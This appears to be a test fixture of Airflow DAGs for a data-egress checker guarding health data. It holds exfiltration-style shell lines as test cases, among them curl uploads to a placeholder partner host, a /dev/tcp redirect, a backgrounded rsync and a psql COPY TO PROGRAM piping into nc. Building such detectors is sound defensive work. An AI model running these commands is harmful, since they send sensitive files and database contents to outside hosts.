"""Shells, Python and operators that nobody knows; and what would run unseen."""

import corpus
from airflow.providers.standard.operators.bash import BashOperator
from airflow.providers.standard.operators.empty import EmptyOperator
from airflow.providers.standard.operators.python import PythonOperator
from airflow.sdk import BaseOperator
from corpus import dag


class Upload(BaseOperator):
    """An author's own operator."""

    template_fields = ("destination",)

    def __init__(self, *, destination=None, aws_conn_id=None, other_conn_id=None, note=None, **options):
        super().__init__(**options)
        self.destination = destination
        self.aws_conn_id = aws_conn_id
        self.other_conn_id = other_conn_id
        self.note = note

    def execute(self, context):  # noqa: ARG002 - Airflow's signature
        return None


class Sneaky(PythonOperator):
    """Overrides what Airflow calls first."""

    def pre_execute(self, context):  # noqa: ARG002 - as above
        raise corpus.AirflowSkipException("an author's code ran before the door")


with dag("bash_harmless"):
    BashOperator(task_id="t", bash_command="echo 'codes of http://loinc.org'; date")

with dag("bash_curl"):
    BashOperator(task_id="t", bash_command="curl -T /srv/x https://drop.partner.example/")

with dag("bash_curl_own"):
    BashOperator(task_id="t", bash_command="curl -fsS https://fhir.chu.example/metadata")

with dag("bash_aws"):
    BashOperator(task_id="t", bash_command="aws s3 cp /srv/x s3://us-research/ --region us-east-1")

with dag("bash_variable"):
    BashOperator(task_id="t", bash_command="U=https://drop.partner.example; curl -T /srv/x $U/in")

with dag("bash_env"):
    BashOperator(task_id="t", bash_command='curl -T /srv/x "$U"', env={"U": "https://drop.partner.example/"})

with dag("bash_dev_tcp"):
    BashOperator(task_id="t", bash_command="cat /srv/x > /dev/tcp/203.0.113.7/443")

with dag("bash_nested"):
    BashOperator(task_id="t", bash_command='nohup bash -c "rsync -a /srv/ me@drop.partner.example:/in" &')

with dag("bash_unreadable_is_confined"):
    BashOperator(task_id="t", bash_command='eval "$(cat /srv/x)"')

with dag("bash_rendered"):
    BashOperator(task_id="t", bash_command="scp /srv/x {{ 'drop.partner.example' }}:/in")

with dag("bash_psql_program"):
    BashOperator(task_id="t", bash_command="psql -h pg.chu.example -c \"COPY p TO PROGRAM 'nc 203.0.113.7 80'\"")

with dag("bash_pg_dump_own"):
    BashOperator(task_id="t", bash_command="pg_dump -h pg.chu.example -d eds | gzip > /srv/x.gz")

with dag("python_labels"):
    PythonOperator(task_id="t", python_callable=print, op_kwargs={"system": "http://loinc.org"})

with dag("python_sneaky"):
    Sneaky(task_id="t", python_callable=print)


with dag("unknown_rendered_destination"):
    Upload(task_id="t", destination="sftp://{{ 'drop' }}.partner.example/x")

with dag("unknown_bucket_by_connection"):
    Upload(task_id="t", destination="s3://lac/x", aws_conn_id="oos")

with dag("unknown_connection_abroad"):
    Upload(task_id="t", other_conn_id="pg_abroad")

with dag("unknown_connection_own"):
    Upload(task_id="t", other_conn_id="pg_own", note="see https://wiki.partner.example/")


with dag("empty"):
    EmptyOperator(task_id="t")

with dag("open_data_by_policy"):
    BashOperator(task_id="t", bash_command="curl https://data.partner.example/communes.csv")

with dag("open_data_raised_by_tag", tags=["douane:class=identified-health"]):
    BashOperator(task_id="t", bash_command="curl https://data.partner.example/communes.csv")

with dag("lowered_by_tag", tags=["douane:class=technical"]):
    BashOperator(task_id="t", bash_command="curl https://data.partner.example/communes.csv")
